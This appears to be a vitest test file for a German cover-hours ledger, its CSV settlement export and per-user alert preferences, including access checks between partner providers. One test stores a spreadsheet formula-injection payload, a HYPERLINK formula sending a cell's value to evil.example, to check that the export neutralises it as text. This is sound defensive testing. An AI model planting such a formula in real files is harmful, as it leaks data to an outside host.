// The ledger (/vertretungen/bilanz and bilanz.csv) and the alert preferences
// (/vertretungen/benachrichtigungen) through their loaders and actions: hours given and taken per
// partner and month, the case reference only for the requester, the CSV (`;`, BOM, German headers)
// only with the two Träger's rows; each person's alert preferences saved, reset, bad codes refused.
import { beforeAll, describe, expect, it } from "vitest";
import type { Database } from "~/.server/db/connection";
import { action as ledgerAction, loader as ledgerLoader } from "~/routes/vertretungen.bilanz._index";
import { loader as csvLoader } from "~/routes/vertretungen.bilanz[.csv]";
import { action as alertsAction, loader as alertsLoader } from "~/routes/vertretungen.benachrichtigungen";
import { asUser } from "~/.server/db/request";
import { completeCover } from "~/.server/cover/functions";
import { freshDatabase } from "../helpers/db";
import { acceptOffer, coverWorld, makeOffer, openRequest, type CoverWorld } from "../helpers/cover";
import { createUser, requestAs, type TestUser } from "../helpers/fixtures";
import { callRoute } from "../helpers/routes";

type Ledger = Awaited<ReturnType<typeof ledgerLoader>>;

describe("the cover ledger", () => {
  let database: Database;
  let world: CoverWorld;
  let given: string;

  beforeAll(async () => {
    database = await freshDatabase();
    world = await coverWorld(database, { offerers: 2 });
    // Offerer 1 covers 10 h/week for the requester, over four weeks in January 2027 …
    const id = await openRequest(world, { hours_per_week: 10, period_from: "2027-01-04", period_to: "2027-01-31" });
    given = await makeOffer(world.offerers[0]!, id, 10);
    await acceptOffer(world.requester.coordinator, id, given);
    await asUser(world.offerers[0]!.coordinator, (tx) => completeCover(tx, given, 38.5));
  });

  async function ledger(user: TestUser, query = "") {
    return callRoute<Ledger>(ledgerLoader, await requestAs(database, user, `/vertretungen/bilanz${query}`));
  }

  /** The CSV as bytes decoded with its BOM kept (Response.text() would drop it). */
  async function csv(user: TestUser, query = "") {
    const request = await requestAs(database, user, `/vertretungen/bilanz.csv${query}`);
    let response: Response;
    try {
      response = (await csvLoader({ request, params: {}, context: {} })) as Response;
    } catch (thrown) {
      if (!(thrown instanceof Response)) throw thrown;
      response = thrown;
    }
    const bytes = new Uint8Array(await response.arrayBuffer());
    return {
      status: response.status,
      headers: response.headers,
      data: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes),
    };
  }

  it("shows each Träger the hours given and taken per partner and month, the case reference only to the requester", async () => {
    const requester = await ledger(world.requester.member);
    expect(requester.status).toBe(200);
    const [partner] = requester.data.ledger.partners;
    expect(requester.data.ledger.partners).toHaveLength(1);
    expect(partner).toMatchObject({ orgId: world.offerers[0]!.org.id, name: world.offerers[0]!.org.name });
    expect(partner!.months).toEqual([
      { month: "2027-01", givenPlanned: "0", givenActual: null, takenPlanned: expect.stringMatching(/^40(\.0+)?$/), takenActual: expect.stringMatching(/^38\.50?$/) },
    ]);
    expect(partner!.covers[0]).toMatchObject({ given: false, caseReference: "F-2026-014", auegNote: "gelegentlich, § 1 Abs. 3 Nr. 2a AÜG" });

    const giver = await ledger(world.offerers[0]!.coordinator);
    expect(giver.data.ledger.partners[0]).toMatchObject({ orgId: world.requester.org.id });
    expect(giver.data.ledger.partners[0]!.covers[0]).toMatchObject({ given: true, caseReference: null });

    const third = await ledger(world.offerers[1]!.coordinator);
    expect(third.data.ledger.partners).toEqual([]);
  });

  it("exports the CSV for settlement: `;`, UTF-8 BOM, German headers, decimal commas", async () => {
    const outcome = await csv(world.requester.coordinator);
    expect(outcome.status).toBe(200);
    expect(outcome.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(outcome.headers.get("Content-Disposition")).toMatch(/attachment; filename="bilanz-vertretungen-.+\.csv"/);
    const text = outcome.data;
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).trim().split("\r\n");
    expect(lines[0]).toBe(
      "Monat;Richtung;Partner-Träger;Fallkürzel;Hilfeart;Gemeinde;Art;Zeitraum von;Zeitraum bis;Std./Woche;Geplante Std.;Geleistete Std.;Abgeschlossen am;Hinweis;Kooperationsvereinbarung",
    );
    expect(lines).toHaveLength(2);
    const cells = lines[1]!.split(";");
    expect(cells.slice(0, 4)).toEqual(["2027-01", `genommen von ${world.offerers[0]!.org.name}`, world.offerers[0]!.org.name, "F-2026-014"]);
    expect(cells.slice(7, 12)).toEqual(["04.01.2027", "31.01.2027", "10", "40", "38,5"]);
    expect(cells[13]).toBe("gelegentliche Arbeitnehmerüberlassung (§ 1 Abs. 3 Nr. 2a AÜG)");
  });

  it("gives the CSV only to the two Träger: the giver without the case reference, a third Träger no rows", async () => {
    const giver = (await csv(world.offerers[0]!.coordinator)).data.slice(1).trim().split("\r\n");
    expect(giver).toHaveLength(2);
    expect(giver[1]!.split(";")[3]).toBe("");
    expect(giver[1]).toContain(`gegeben an ${world.requester.org.name}`);
    const third = (await csv(world.offerers[1]!.coordinator)).data.slice(1).trim().split("\r\n");
    expect(third).toHaveLength(1);
    expect(third[0]).toMatch(/^Monat;Richtung;/);
    const stranger = await createUser(database);
    expect((await csv(stranger)).status).toBe(404);
    expect((await csv(world.offerers[1]!.coordinator, `?traeger=${world.requester.org.slug}`)).status).toBe(404);
  });

  it("lets either side's coordinators note the cooperation agreement, not members", async () => {
    const form = { intent: "agreement", formId: `agreement-${given}`, offerId: given, reference: "Kooperationsvereinbarung vom 01.03.2026" };
    const member = await callRoute<{ formId: string; result: { error?: Record<string, string[]> } }>(
      ledgerAction,
      await requestAs(database, world.requester.member, "/vertretungen/bilanz?index", { form }),
    );
    // The refusal belongs to the form of this cover (the page has one per cover).
    expect(member.data.formId).toBe(`agreement-${given}`);
    expect(member.data.result.error?.[""]?.[0]).toMatch(/Koordination/);
    const coordinator = await callRoute(ledgerAction, await requestAs(database, world.requester.coordinator, "/vertretungen/bilanz?index", { form }));
    expect(coordinator.status).toBe(302);
    expect(coordinator.location).toBe("/vertretungen/bilanz");
    const row = await database.db.selectFrom("cover_ledger").select("agreement_reference").where("offer_id", "=", given).executeTakeFirstOrThrow();
    expect(row.agreement_reference).toBe("Kooperationsvereinbarung vom 01.03.2026");
    const third = await callRoute<{ result: { error?: Record<string, string[]> } }>(
      ledgerAction,
      await requestAs(database, world.offerers[1]!.coordinator, "/vertretungen/bilanz?index", { form: { ...form, reference: "x" } }),
    );
    expect(third.data.result.error?.[""]).toBeTruthy();
    const csvText = (await csv(world.offerers[0]!.coordinator)).data;
    expect(csvText).toContain("Kooperationsvereinbarung vom 01.03.2026");
  });

  it("writes a formula set by the partner Träger as text in the other Träger's file", async () => {
    const formula = '=HYPERLINK("https://evil.example/?x="&A1;"Vertrag")';
    const saved = await callRoute(
      ledgerAction,
      await requestAs(database, world.requester.coordinator, "/vertretungen/bilanz?index", {
        form: { intent: "agreement", offerId: given, reference: formula },
      }),
    );
    expect(saved.status).toBe(302);
    const lines = (await csv(world.offerers[0]!.coordinator)).data.slice(1).trim().split("\r\n").slice(1);
    expect(lines.length).toBeGreaterThan(0);
    // The last cell of each line, quoted, starting with an apostrophe: text, not a formula.
    for (const line of lines) expect(line.endsWith(`;"'${formula.replace(/"/g, '""')}"`)).toBe(true);
  });
});

describe("the cover alert preferences", () => {
  let database: Database;
  let world: CoverWorld;

  beforeAll(async () => {
    database = await freshDatabase();
    world = await coverWorld(database, { offerers: 1 });
  });

  async function settings(user: TestUser) {
    const outcome = await callRoute<Awaited<ReturnType<typeof alertsLoader>>>(
      alertsLoader,
      await requestAs(database, user, "/vertretungen/benachrichtigungen"),
    );
    return outcome.data.settings;
  }

  async function save(user: TestUser, form: Record<string, string | string[]>) {
    return callRoute<{ result: { error?: Record<string, string[]> } }>(
      alertsAction,
      await requestAs(database, user, "/vertretungen/benachrichtigungen", { form }),
    );
  }

  it("defaults to everything the Träger serves, with email", async () => {
    const s = await settings(world.offerers[0]!.coordinator);
    expect(s).toMatchObject({
      saved: false,
      urgencies: ["notfall", "dringend", "planbar"],
      notfallOnly: false,
      gemeinden: [],
      hilfearten: [],
      emailEnabled: true,
      receivesAlerts: true,
      served: { gemeinden: ["dinslaken"], hilfearten: ["p31"] },
    });
    expect((await settings(world.offerers[0]!.member)).receivesAlerts).toBe(false);
  });

  it("saves the person's choice, and it decides who is alerted", async () => {
    const outcome = await save(world.offerers[0]!.coordinator, {
      intent: "save",
      urgencies: ["notfall"],
      notfallOnly: "on",
      gemeinden: ["dinslaken"],
    });
    expect(outcome.status).toBe(302);
    expect(await settings(world.offerers[0]!.coordinator)).toMatchObject({
      saved: true,
      urgencies: ["notfall"],
      notfallOnly: true,
      gemeinden: ["dinslaken"],
      hilfearten: [],
      emailEnabled: false,
    });
    await openRequest(world, { urgency: "planbar" });
    const planbar = await database.db.selectFrom("notifications").select("id").where("user_id", "=", world.offerers[0]!.coordinator.id).execute();
    expect(planbar).toEqual([]);
    await openRequest(world, { urgency: "notfall" });
    const notfall = await database.db.selectFrom("notifications").select("kind").where("user_id", "=", world.offerers[0]!.coordinator.id).execute();
    expect(notfall.map((n) => n.kind)).toEqual(["cover.alert"]);
  });

  it("refuses unknown codes with a German message and resets to the default", async () => {
    const bad = await save(world.offerers[0]!.coordinator, { intent: "save", urgencies: ["notfall"], gemeinden: ["atlantis"] });
    expect(bad.status).toBe(200);
    expect(bad.data.result.error?.[""]).toEqual(["Unbekannte Gemeinde."]);
    const malformed = await save(world.offerers[0]!.coordinator, { intent: "save", urgencies: ["sofort"] });
    expect(malformed.data.result.error?.["urgencies[0]"] ?? malformed.data.result.error?.urgencies).toBeTruthy();
    const reset = await save(world.offerers[0]!.coordinator, { intent: "reset" });
    expect(reset.status).toBe(302);
    expect((await settings(world.offerers[0]!.coordinator)).saved).toBe(false);
  });
});
